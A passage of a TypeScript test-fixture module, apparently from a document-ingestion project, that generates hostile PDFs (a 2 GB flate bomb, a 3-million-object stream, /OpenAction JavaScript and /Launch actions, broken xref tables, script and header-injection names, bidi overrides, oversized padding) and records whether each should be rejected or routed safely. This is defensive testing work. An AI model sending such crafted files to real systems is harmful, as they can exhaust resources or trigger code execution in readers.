      w.object(7, `<< /Type /Page /Parent 2 0 R /MediaBox ${MEDIABOX} /Resources 6 0 R /Contents [${refs}] >>`);
      const text = Buffer.from(contentOf(layoutText(NOT_MINUTES)[0]!), 'latin1');
      const noop = Buffer.from('q Q', 'latin1');
      for (let i = 0; i < count; i++) w.stream(8 + i, '', i === 0 ? text : noop);
      w.finish('/Root 1 0 R');
    },
  },
  {
    kind: 'huge-object-stream',
    what: 'one object stream of 3,000,000 objects (catalog and page inside), an xref stream',
    // pdf.js parses every object of the stream at once: unchecked, about 1.5 GB.
    expect: [...REJECTED('TOO_LARGE'), ...ATTENTION('NO_ITEMS')],
    make: (p) => writeObjectStreamPdf(p, 3_000_000),
  },
  {
    kind: 'flate-bomb',
    what: 'a 2 MB FlateDecode content stream that inflates to 2 GB of zeros',
    expect: [...REJECTED('TOO_LARGE'), ...ATTENTION('CORRUPT')],
    make: (p) => {
      const w = new PdfWriter(p);
      w.object(1, '<< /Type /Catalog /Pages 2 0 R >>');
      w.object(2, '<< /Type /Pages /Kids [7 0 R] /Count 1 >>');
      writeFonts(w);
      w.object(7, `<< /Type /Page /Parent 2 0 R /MediaBox ${MEDIABOX} /Resources 6 0 R /Contents [8 0 R 9 0 R] >>`);
      w.stream(8, '', Buffer.from(contentOf(layoutText(NOT_MINUTES)[0]!), 'latin1'));
      const megabytes = 2048;
      w.stream(9, '/Filter /FlateDecode', zerosBomb(megabytes), bombSize(megabytes));
      w.finish('/Root 1 0 R');
    },
  },
  {
    kind: 'javascript-launch',
    what: 'valid minutes with /OpenAction JavaScript, /Launch actions, page and document additional actions',
    expect: ROUTED,
    make: async (p, dir) => writeFileSync(p, await actionMinutes(plainMinutes('11 november 2026'), dir)),
  },
  {
    kind: 'broken-xref',
    what: 'valid minutes, every xref offset off by 7 and startxref off by 11',
    expect: [...ROUTED, ...ATTENTION('CORRUPT')],
    make: async (p) => writeFileSync(p, breakXref(await pdfLibMinutes(plainMinutes('12 november 2026')))),
  },
  {
    kind: 'injection-names',
    what: 'minutes with <script>, quotes, CR/LF and Bcc: in the text layer; the directory names carry the same',
    expect: ROUTED,
    make: (p) => void writeTextPdf(p, injectionMinutes('10 november 2026')),
  },
  {
    kind: 'bidi-names',
    what: 'right-to-left overrides, isolates and zero-width characters in the text layer and the directory names',
    expect: ROUTED,
    make: (p) => void writeTextPdf(p, bidiMinutes('13 november 2026')),
  },
  {
    kind: 'size-100mb',
    what: 'valid minutes padded to 100 MB with an unreferenced stream (limit 50 MB)',
    expect: REJECTED('TOO_LARGE'),
    make: async (p) => padPdf(p, await pdfLibMinutes(plainMinutes('14 november 2026')), 100 * 1024 * 1024),
  },
];

function qpdf(args: string[]): void {
  try {
    execFileSync('qpdf', args, { stdio: 'pipe' });
  } catch (error) {
    // Exit code 3: done, with warnings.
    if ((error as { status?: number }).status !== 3) throw error;
  }
}

/** Writes every kind (or those named) to a fresh temporary folder. */
export async function generateCorpus(only?: readonly string[]): Promise<Corpus> {
  const dir = mkdtempSync(join(tmpdir(), 'justera-hostile-'));
  const files: HostileFile[] = [];
  for (const k of KINDS) {
    if (only && !only.includes(k.kind)) continue;
    const path = join(dir, `${k.kind}.pdf`);
    await k.make(path, dir);
    files.push({ kind: k.kind, what: k.what, path, size: statSync(path).size, expect: k.expect });
  }
  return {
    dir,
    files,
    sentinels: [join(dir, 'javascript-ran'), join(dir, 'launch-ran')],
    cleanup: () => rm(dir, { recursive: true, force: true }),
  };
}

/** What each kind is and how it must end, without generating anything (to declare the tests). */
export const KIND_LIST: readonly Pick<HostileFile, 'kind' | 'what' | 'expect'>[] = KINDS.map(({ kind, what, expect }) => ({ kind, what, expect }));
